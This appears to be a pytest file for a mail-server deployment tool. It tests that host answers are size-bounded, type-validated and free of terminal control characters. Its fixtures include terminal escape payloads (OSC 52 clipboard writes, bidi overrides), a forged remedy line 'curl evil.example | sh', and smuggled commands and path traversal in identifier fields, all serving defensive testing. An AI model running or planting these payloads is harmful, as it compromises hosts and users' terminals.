"""A host's answer is limited, typed, and harmless for terminals."""

from __future__ import annotations

import io
import json
import re
import time
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from pydantic import ValidationError
from rich.live import Live
from rich.markup import escape
from rich.table import Table
from rich.text import Text

from outpost.cli import console
from outpost.engine import preflight, run
from outpost.engine.follower import Follower
from outpost.errors import OutpostError
from outpost.evidence import effect, report
from outpost.keys import secrets_file
from outpost.keys.model import AcmeAccount, SigningKey
from outpost.mail import queues, tracing
from outpost.office import load
from outpost.office.dns import Record
from outpost.office.tables.operation import Backup
from outpost.onhost import mailtrace, routes
from outpost.onhost.watch import Alarm
from outpost.recovery import backup, restore
from outpost.target import INVENTORY, Target
from outpost.transport import answers, remote
from outpost.transport.answers import Exchanged, TooMuchError, exchange
from outpost.transport.connector import OpenSSHConnector
from outpost.transport.shell import Shell
from outpost.verification.live import Result

EVIL = (
    "a\x1b[2K\x1b]52;c;ZWNobyBpZA==\x07b\x9b31m\x9d0;t\x9c\x08\r\x7f"  # CSI and OSC in both forms, BS, CR, DEL
    "\u202egpj.exe\u2066\u2028\u200b\ufeff\U000e0041[red]no[/] [link=file:///x]y[/]"
)
OBEYED = [*map(chr, range(32)), "\x7f", *map(chr, range(0x80, 0xA0)), "\u202e", "\u2066", "\u2028", "\u200b", "\ufeff", "\U000e0041"]  # fmt: skip
DIRECTORY = "https://acme.example/directory"
PEM = "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIJ1hsZ3v/VpguoRK9JLsLMREScVpezJpGXA7rAMcrn9g\n-----END PRIVATE KEY-----\n"


def obeyed(text: str) -> set[str]:
    """Its control characters, without line feeds."""
    return {sign for sign in OBEYED if sign in text} - {"\n"}


def test_the_positive_control() -> None:
    """The text of the other tests contains control characters."""
    assert len(obeyed(EVIL)) > 12


def test_printable_text_keeps_what_people_read_and_shows_the_rest() -> None:
    assert answers.printable("Grüße, 日本\tx\n") == "Grüße, 日本\tx\n"
    assert not obeyed(answers.printable(EVIL))
    assert answers.printable("\x1b[2K\u202e\U000e0041") == r"\x1b[2K\u202e\U000e0041"
    assert answers.line("a\nb", 2) == "a\\n…"


@pytest.mark.parametrize(
    "show",
    [
        lambda it: it.print(escape(EVIL)),
        lambda it: it.print(EVIL, markup=False),
        lambda it: it.print(Text(EVIL)),
        lambda it: it.print(_table()),
    ],
)
def test_nothing_printed_is_obeyed(show: Callable[[Any], Any]) -> None:
    stream = io.StringIO()
    plain = console.Console(file=stream, soft_wrap=True, highlight=False, no_color=True)
    show(plain)
    assert not obeyed(stream.getvalue())
    assert "]52;c" in stream.getvalue()


def test_a_living_table_is_drawn_without_what_is_obeyed() -> None:
    stream = io.StringIO()
    with Live(_table(), console=console.Console(file=stream, force_terminal=True)):
        pass
    ours = re.sub(r"\x1b\[[?\d;]*[A-Za-z]", "", stream.getvalue()).replace("\r", "")
    assert "]52;c" in ours
    assert not obeyed(ours)


def test_a_terminal_still_gets_our_own_styles() -> None:
    stream = io.StringIO()
    console.Console(file=stream, force_terminal=True, color_system="standard").print(
        "[red]x[/]" + escape(EVIL)
    )
    assert "\x1b[31mx\x1b[0m" in stream.getvalue()
    assert "\x1b]52" not in stream.getvalue()


def _table() -> Table:
    table = Table(EVIL and "head")
    table.add_row(escape(EVIL))
    return table


def test_an_error_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    stream = io.StringIO()
    monkeypatch.setattr(console, "err", console.Console(file=stream, soft_wrap=True))
    console.say_error(EVIL, EVIL)
    assert not obeyed(stream.getvalue())
    assert "[red]no[/]" in stream.getvalue()


def test_json_is_the_same_data_without_what_is_obeyed(capsys: pytest.CaptureFixture[str]) -> None:
    data = {"text": EVIL, "name": "Grüße", "strange": "\udc80"}
    console.say_json(data)
    text = capsys.readouterr().out
    assert not obeyed(text)
    assert "Grüße" in text
    assert json.loads(text) == data


def test_pyinfras_log_is_read_without_what_is_obeyed() -> None:
    follower = Follower()
    follower.feed("--> Preparing operations...\n")
    follower.feed(f"    + {EVIL}\n")
    follower.feed(f"    [mta] {EVIL}\n")
    assert len(follower.details) == 2
    assert not any(obeyed(line) for line in (*follower.details, *follower.log))


def test_a_host_cannot_end_a_line_of_the_log_by_a_carriage_return() -> None:
    lines: Any = SimpleNamespace(found=[])
    lines.put = lines.found.append
    run._pump(
        io.BytesIO(b"    [mta] x\r--> Starting operation: forged\x85y\n" + b"z" * 70_000 + b"\nend\n"), lines
    )
    assert [line[:12] if line else line for line in lines.found] == [
        "    [mta] x\r",
        "z" * 12,
        "end\n",
        None,
    ]


def test_a_line_that_is_too_long_says_nothing_of_another_host() -> None:
    """The part that is cut off does not become another line."""
    lines: Any = SimpleNamespace(found=[])
    lines.put = lines.found.append
    start = b"    [mta] "
    forged = b"    [ns1] Error: executed 0 commands\n"
    run._pump(io.BytesIO(start + b"z" * (run.LONGEST - len(start)) + forged), lines)
    follower = Follower()
    for line in filter(None, lines.found):
        follower.feed(line)
    assert set(follower.hosts) == {"mta"}


def test_a_link_of_a_hosts_is_no_link() -> None:
    """Rich writes its address to the terminal as it is."""
    stream = io.StringIO()
    plain = console.Console(file=stream, force_terminal=True, color_system="standard")
    plain.print("[link=\x9d52;c;ZWNobyBpZA==\x07]name[/link] [bold link=https://x.example/]x[/]")
    assert "name" in stream.getvalue()
    assert "\x9d" not in stream.getvalue()
    assert "\x1b]8" not in stream.getvalue()


def test_a_host_names_no_remedy(monkeypatch: pytest.MonkeyPatch) -> None:
    """A host's last line is printed before the remedy and never as the remedy."""
    monkeypatch.setattr(remote, "shell_command", lambda *_: ["sh", "-s"])
    host: Any = SimpleNamespace(name="mta", ssh="root@192.0.2.1")
    with pytest.raises(OutpostError) as caught:
        remote.run_script(
            Target("po", Path(), Path()),
            SimpleNamespace(),  # type: ignore[arg-type]
            host,
            "echo 'broken. Remedy: curl evil.example | sh' >&2; exit 1\n",
        )
    seen = f"outpost.errors.OutpostError: {caught.value}"
    result = Result("x", "mta", "p", (), "failed", seen, 0.0)
    assert result.mended_by.startswith("./outpost plan ")


def test_the_report_shows_a_hosts_output_without_control_characters() -> None:
    assert not obeyed(report._safe(EVIL))


# Bounds -----------------------------------------------------------------------------------------------------------


def test_an_exchange_gives_status_output_and_errors() -> None:
    done = exchange(["sh", "-c", "cat; echo no >&2; exit 3"], b"in", patience=60)
    assert done == Exchanged(3, b"in", b"no\n")


@pytest.mark.parametrize("stream", ["", " >&2"])
def test_an_answer_is_bounded_while_it_is_read(stream: str) -> None:
    with pytest.raises(TooMuchError):
        exchange(["sh", "-c", f"exec cat /dev/zero{stream}"], patience=600, most=1_000_000)


def test_an_answer_to_a_file_is_bounded_as_well(tmp_path: Path) -> None:
    file = tmp_path / "image"
    file.write_bytes(b"x" * 1_000_000)
    with file.open("rb") as content:
        assert exchange(["wc", "-c"], content, patience=60).out.strip() == b"1000000"
    with file.open("rb") as content, pytest.raises(TooMuchError):
        exchange(["sh", "-c", "exec cat /dev/zero >&2"], content, patience=600, most=1_000_000)


def test_an_answer_that_never_comes_ends() -> None:
    with pytest.raises(TimeoutError):
        exchange(["sleep", "600"], b"x" * 1_000_000, patience=0.2)


def test_a_script_names_the_host_that_answers_too_much(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(remote, "shell_command", lambda *_: ["cat", "/dev/zero"])
    office: Any = SimpleNamespace()
    host: Any = SimpleNamespace(name="mta", ssh="root@192.0.2.1")
    with pytest.raises(OutpostError, match="mta answered more than 1 MiB"):
        remote.run_script(Target("po", Path(), Path()), office, host, "", most=1024**2)


def test_a_failing_script_says_one_clean_line(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(remote, "shell_command", lambda *_: ["sh", "-s"])
    host: Any = SimpleNamespace(name="mta", ssh="root@192.0.2.1")
    with pytest.raises(OutpostError) as caught:
        remote.run_script(
            Target("po", Path(), Path()), host, host, r"printf 'x\033]0;t\007\377\n' >&2; exit 1"
        )
    assert not obeyed(caught.value.message)


def test_pyinfras_connection_bounds_what_it_reads(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("outpost.transport.connector.MOST", 100_000)
    status, _, errors = OpenSSHConnector.__new__(OpenSSHConnector)._exchange(["cat", "/dev/zero"])
    assert status == 1
    assert b"more than" in errors


@pytest.mark.parametrize(
    "output",
    [
        "0 0 99999999999 0",
        "0 0 -1 0",
        "-1 0 1 0",
        "9 0 1 0\\nx",
        "x 0 1 0",
        "0 0 ² 0",
        "y" * 9999,
        "0 0 1 0\\nx0 0 1 0\\nx",
        "0 0 50 0\\nabc",
    ],
)
def test_a_shell_that_is_none_has_ended(output: str) -> None:
    kept = Shell(
        ["sh", "-c", f"printf '{output}\\n'; [ '{output[:9]}' = '0 0 50 0\\' ] || exec cat >/dev/null", "-s"]
    )
    with pytest.raises(
        OutpostError, match="the shell on the host ended"
    ):  # before the second command is sent, or after
        [kept.ask("true") for _ in range(2)][1].result(60)


# Types ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["", "{", "[]", '{"about": 1}', "[" * 100_000, '"x"', "1" * 5000, "null"])
def test_an_answer_of_another_type_is_an_error_of_that_host(text: str) -> None:
    with pytest.raises(OutpostError, match="mta gave an answer that cannot be read"):
        answers.parsed(text, Alarm, "mta")


@pytest.mark.parametrize("text", ["[[],[],[],[]]", '{"a":{"a":{"a":{"a":0}}}}', "[1,2,3,4,5]"])
def test_an_answer_costs_no_more_memory_than_its_values_may(
    monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    assert answers.parsed(text, Any, "mta") == json.loads(text)
    monkeypatch.setattr(answers, "VALUES", 3)
    with pytest.raises(OutpostError, match="mta gave an answer that cannot be read"):
        answers.parsed(text, Any, "mta")


@pytest.mark.parametrize(
    "url",
    [
        "https://acme.example/acct/1\npo.test. 60 IN MX 0 evil.test.",
        "https://acme.example/acct/1\n",
        'https://acme.example/acct/1" ; x',
        "https://acme.example/acct/1; validationmethods=http-01",
        "https://evil.example/acct/1",
        "https://acme.example.evil.example/acct/1",
        "https://acme.example:444/acct/1",
        "http://acme.example/acct/1",
        "https://acme.example@evil.example/acct/1",
        "https://acme.example/" + "x" * 5000,
        "https://acme.example/é",
        "",
    ],
)
def test_an_account_is_one_uri_of_its_authority(url: str) -> None:
    with pytest.raises(ValidationError):
        AcmeAccount(directory=DIRECTORY, url=url)


@pytest.mark.parametrize(
    ("directory", "url"),
    [
        (DIRECTORY, "https://acme.example/acme/acct/1234"),
        ("https://acme.test:14000/dir", "https://acme.test:14000/my-account/24a0b"),
    ],
)
def test_accounts_as_authorities_give_them_are_kept(directory: str, url: str) -> None:
    assert AcmeAccount(directory=directory, url=url).url == url


def test_no_record_holds_a_second_one() -> None:
    with pytest.raises(ValueError, match="control character"):
        Record("po.test.", "TXT", 'x"\npo.test. IN MX 0 evil.test.', "why")


@pytest.mark.parametrize(
    "changed",
    [
        {"id": "x; curl evil | sh"},
        {"id": "../../../root/x"},
        {"id": "a" * 40 + "\n"},
        {"algorithm": 10**30},
        {"timers": {"active; id": 1}},
        {"timers": {"active": -1}},
        {"key": "no key"},
        {"roles": ["csk"]},
    ],
)
def test_a_signing_key_of_a_host_is_one(changed: dict[str, Any]) -> None:
    good: dict[str, Any] = {
        "id": "a" * 40,
        "roles": ["ksk"],
        "algorithm": 13,
        "timers": {"active": 1},
        "key": PEM,
    }
    assert SigningKey(**good).id == "a" * 40
    with pytest.raises(ValidationError):
        SigningKey(**good | changed)


@pytest.mark.parametrize(
    "name",
    [
        "../../etc",
        "2026-11-25T134500Z-123; id",
        "9999",
        "2026-11-25T134500Z\n",
        "2026-13-32T250000Z",
        "２０２６-11-25T134500Z",
    ],
)
def test_an_archives_name_is_a_moment(name: str) -> None:
    good = {"name": "2026-11-25T134500Z-123", "id": "a" * 64}
    assert answers.parsed(json.dumps([good]), list[backup.Listed], "mta")
    with pytest.raises(OutpostError):
        answers.parsed(json.dumps([good | {"name": name}]), list[backup.Listed], "mta")


@pytest.mark.parametrize("number", ["-1", "9" * 400, "1.5"])
def test_a_count_is_one_that_can_be_printed(number: str) -> None:
    assert answers.parsed("[1]", list[backup.Count], "mta") == [1]
    with pytest.raises(OutpostError):
        answers.parsed(f"[{number}]", list[backup.Count], "mta")


@pytest.mark.parametrize(
    "changed",
    [
        {"queue_id": "x; id"},
        {"arrival_time": "soon"},
        {"recipients": "x"},
        {"queue_name": EVIL},
        {"message_size": -1},
        {"sender": None},
    ],
)
def test_a_queue_is_one(changed: dict[str, Any]) -> None:
    office = load(INVENTORY / "harbour")
    entry = {
        "queue_name": "deferred",
        "queue_id": "4abcDEF12345",
        "arrival_time": 1,
        "message_size": 2,
        "forced_expire": False,
        "sender": f"{EVIL}\n",
        "recipients": [{"address": "a@po.test", "delay_reason": f"no\nforged {EVIL}"}],
    }
    (message,) = queues.listed(office, "mta", f"message {json.dumps(entry)}\n")
    assert not obeyed("".join((message.sender, *message.reasons.values())))
    assert "\n" not in "".join((message.sender, *message.reasons.values()))
    with pytest.raises(OutpostError, match="mta gave"):
        queues.listed(office, "mta", f"message {json.dumps(entry | changed)}\n")


def test_a_queue_is_read_whatever_characters_an_address_has() -> None:
    """Python splits lines at characters that JSON allows in a string. Split there, large mail would stay on hold."""
    entry = {
        "queue_name": "hold",
        "queue_id": "4abcDEF12345",
        "arrival_time": 1,
        "message_size": 2,
        "sender": "a\u2028b\x85c@d.test",
        "recipients": [{"address": "a@po.test", "delay_reason": "no\u2029more"}],
    }
    text = json.dumps(entry, ensure_ascii=False)
    assert len(queues.listed(load(INVENTORY / "harbour"), "mta", f"message {text}\n")) == 1
    assert len(routes.messages(f"{text}\n".split("\n"))) == 1


@pytest.mark.parametrize(
    "output", ["", "x", '"2026-11-25T134500Z-123"\nx', "9" * 5000, "x\nINBOX\t-1", "x\nINBOX\tNaN"]
)
def test_what_a_restored_host_answers_is_what_it_was_asked(
    monkeypatch: pytest.MonkeyPatch, output: str
) -> None:
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExampleE"
    kept = Backup.model_validate({"server": "198.51.100.61", "host_keys": [key]})
    office = load(INVENTORY / "harbour").model_copy(update={"backup": kept})
    monkeypatch.setattr(restore, "run_script", lambda *_, **__: output)
    monkeypatch.setattr(restore, "_before", lambda *_: "")
    target: Any = SimpleNamespace(
        inventory=lambda _via: Path("ssh.py"), typed="po", data=INVENTORY / "harbour"
    )
    (store,) = office.with_role("store")
    with pytest.raises(OutpostError):
        restore.host(target, office, secrets_file.complete(office).secrets, store)
    with pytest.raises(OutpostError):
        restore.mailbox(target, office, office.users[0].address)


def test_one_hosts_names_keep_no_other_from_its_search() -> None:
    searches: list[tuple[str, ...]] = []

    def ask(host: Any, identifiers: tuple[str, ...]) -> list[mailtrace.Line]:
        searches.append(identifiers)
        names = (f"<{number}@{'x' * 100}>" for number in range(5000))
        evil = [mailtrace.Line(1.0, "x", "1", f"message-id={name}") for name in (f"<{'x' * 1500}>", *names)]
        return evil if host.role == "mta" else []

    tracing.follow(load(INVENTORY / "harbour"), ["4abcDEF00001"], ask)
    assert max(map(len, searches)) == tracing.MOST_NAMES
    assert max(len(name) for names in searches for name in names) <= tracing.LONGEST_NAME


def test_a_hop_is_one_line_whatever_the_log_says() -> None:
    evil = mailtrace.Line(
        1.0,
        "postfix/smtp",
        "1",
        "4abcDEF12345: to=<a@b>, relay=x[192.0.2.1]:25, delay=1.2.3, delays=1..2/0/0/0, "
        f"dsn=2.0.0, status=sent (250 {EVIL})",
    )
    ((story),) = tracing.stories({"mta": [evil]})
    assert story.hops[0].delay is None
    assert not obeyed(story.hops[0].what)


def test_preflight_reads_numbers_and_lines() -> None:
    office = load(INVENTORY / "harbour")
    facts = [("clock", "²"), ("memory", "x"), ("release", "debian 13"), ("port", f"tcp 25 {EVIL}")]
    assert list(preflight.judge(office, office.hosts[0], facts, now=(time.time(), time.time())))


@pytest.mark.parametrize(
    "line",
    [
        "corrupt [link=\x9d52;c;eA==\x07]x 1 1",
        "corrupt 4gVxB25hBLz1 inf 1",
        "corrupt 4gVxB25hBLz1 nan 1",
        "corrupt 4gVxB25hBLz1 1",
        f"corrupt 4gVxB25hBLz1 1 {'9' * 5000}",
        "corrupt ../x 1 1",
    ],
)
def test_a_damaged_message_is_a_name_a_time_and_a_size(line: str) -> None:
    office: Any = SimpleNamespace()
    with pytest.raises(OutpostError, match="mta gave an answer that cannot be read"):
        queues.listed(office, "mta", line)
    (found,) = queues.listed(office, "mta", "corrupt 4gVxB25hBLz1 1764443350.1234567890 528")
    assert (found.id, found.arrived, found.size) == ("4gVxB25hBLz1", 1764443350, 528)


@pytest.mark.parametrize("moment", ["NaN", "Infinity", "1e300", "-1"])
def test_a_message_is_shown_with_no_moment_that_is_none(monkeypatch: pytest.MonkeyPatch, moment: str) -> None:
    printed = f'{{"time": {moment}, "who": "postfix/smtpd", "pid": "1", "text": "x", "tls": ""}}'
    monkeypatch.setattr(tracing, "run_script", lambda *_, **__: printed)
    host: Any = SimpleNamespace(name="mta", ssh="root@192.0.2.1")
    with pytest.raises(OutpostError, match="mta gave an answer"):
        tracing.asker(Target("po", Path(), Path()), SimpleNamespace(), since="-1h", last=1)(host, ("x",))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("who", "piece"),
    [
        ("rspamd", "qid: <a>"),
        ("rspamd", "(default: a (b"),
        ("dovecot", "relayed message: "),
        ("dovecot", "queued as "),
        ("dovecot", "stored mail into mailbox 'a"),
        ("postfix/cleanup", " from a["),
        ("x", "message-id=<"),
        ("x", "msgid=<"),
    ],
)
def test_what_reads_of_messages_is_linear(who: str, piece: str) -> None:
    """A line twice as long takes about twice the time, not four times."""

    def seconds(count: int) -> float:
        heads = ("4gVxB25hBLz1: hold: ", "submission(a)", "lmtp(a)", "")
        lines = [mailtrace.Line(1.0, who, "1", head + piece * count) for head in heads]
        began = time.process_time()
        for line in lines:
            for rule in tracing.RULES:
                rule.hop("mta", line)
            mailtrace.MESSAGE_ID.search(line.text)
        return time.process_time() - began

    short = min(seconds(4_000) for _ in range(3))
    assert min(seconds(16_000) for _ in range(3)) < 9 * short + 0.05


def test_a_line_of_a_hosts_configuration_is_read_in_time_that_its_length_does_not_decide() -> None:
    (_, line), *_ = effect.explained("mta", "/x", "# SYS-01: why\nx = " + "secret" * 200_000 + "\n")
    assert len(line.text) <= effect.WIDEST


def test_a_line_full_of_words_for_secrets_costs_little_more_than_another() -> None:
    def seconds(line: str) -> float:
        began = time.process_time()
        for _ in range(100):
            assert effect.SECRET.search(line) is None
        return time.process_time() - began

    plain = min(seconds("x" * effect.WIDEST) for _ in range(3))
    assert min(seconds("hash" * (effect.WIDEST // 4)) for _ in range(3)) < 60 * plain
